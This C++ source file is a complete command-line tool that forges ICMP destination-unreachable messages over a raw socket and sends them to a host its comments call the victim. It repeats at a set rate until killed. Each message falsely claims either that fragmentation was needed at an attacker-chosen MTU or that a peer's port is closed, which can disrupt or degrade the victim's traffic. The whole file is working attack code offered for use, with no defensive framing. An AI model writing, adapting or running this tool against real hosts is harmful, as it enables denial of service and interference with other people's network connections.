// Sends forged ICMP messages at a socket's host, until it is killed:
//
//     forge_icmp needed=MTU|refused VICTIM PORT PEER PORT PER_SECOND
//
// `needed`: a router says that a datagram from VICTIM's port to PEER's was longer than MTU, and could not be
// cut. `refused`: PEER says that nobody listens at its port. Numeric IPv4 addresses; needs root, for a raw
// socket.
#include <algorithm>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <span>
#include <string>
#include <thread>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <sys/socket.h>

namespace {

// What is quoted: the header of a packet, and the first eight bytes behind it (RFC 792).
struct Message {
  icmphdr icmp;
  iphdr ip;
  udphdr udp;
};
static_assert(sizeof(Message) == 36);

// RFC 1071.
std::uint16_t internet_checksum(std::span<const std::byte> bytes) {
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i < bytes.size(); i += 2) {
    std::uint16_t word = 0;
    std::memcpy(&word, bytes.data() + i, sizeof word);
    sum += word;
  }
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

in_addr address_of(const char* text) {
  in_addr address{};
  if (inet_pton(AF_INET, text, &address) != 1) {
    std::fprintf(stderr, "forge_icmp: '%s' is no IPv4 address\n", text);
    std::exit(2);
  }
  return address;
}

std::uint16_t number(const char* text) { return static_cast<std::uint16_t>(std::atoi(text)); }

Message message_for(const std::string& what, const in_addr& victim, std::uint16_t victim_port,
                    const in_addr& peer, std::uint16_t peer_port) {
  Message message{};
  message.icmp.type = ICMP_DEST_UNREACH;
  message.icmp.code = ICMP_PORT_UNREACH;
  if (what.starts_with("needed=")) {
    message.icmp.code = ICMP_FRAG_NEEDED;
    message.icmp.un.frag.mtu = htons(number(what.c_str() + 7));
  }
  message.ip.version = 4;
  message.ip.ihl = sizeof message.ip / 4;
  message.ip.tot_len = htons(1500);
  message.ip.frag_off = htons(IP_DF);
  message.ip.ttl = 60;
  message.ip.protocol = IPPROTO_UDP;
  message.ip.saddr = victim.s_addr;
  message.ip.daddr = peer.s_addr;
  message.ip.check = internet_checksum(std::as_bytes(std::span(&message.ip, 1)));
  message.udp.source = htons(victim_port);
  message.udp.dest = htons(peer_port);
  message.udp.len = htons(1480);
  message.icmp.checksum = internet_checksum(std::as_bytes(std::span(&message, 1)));
  return message;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 7) {
    std::fprintf(stderr, "usage: forge_icmp needed=MTU|refused VICTIM PORT PEER PORT PER_SECOND\n");
    return 2;
  }
  const in_addr victim = address_of(argv[2]);
  const Message message = message_for(argv[1], victim, number(argv[3]), address_of(argv[4]), number(argv[5]));
  const int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr = victim;
  if (fd < 0 || connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0) {
    std::perror("forge_icmp");
    return 1;
  }
  const auto interval = std::chrono::nanoseconds(1'000'000'000) / std::max<int>(1, number(argv[6]));
  for (auto next = std::chrono::steady_clock::now();; next += interval) {
    std::this_thread::sleep_until(next);
    (void)send(fd, &message, sizeof message, 0);
  }
}
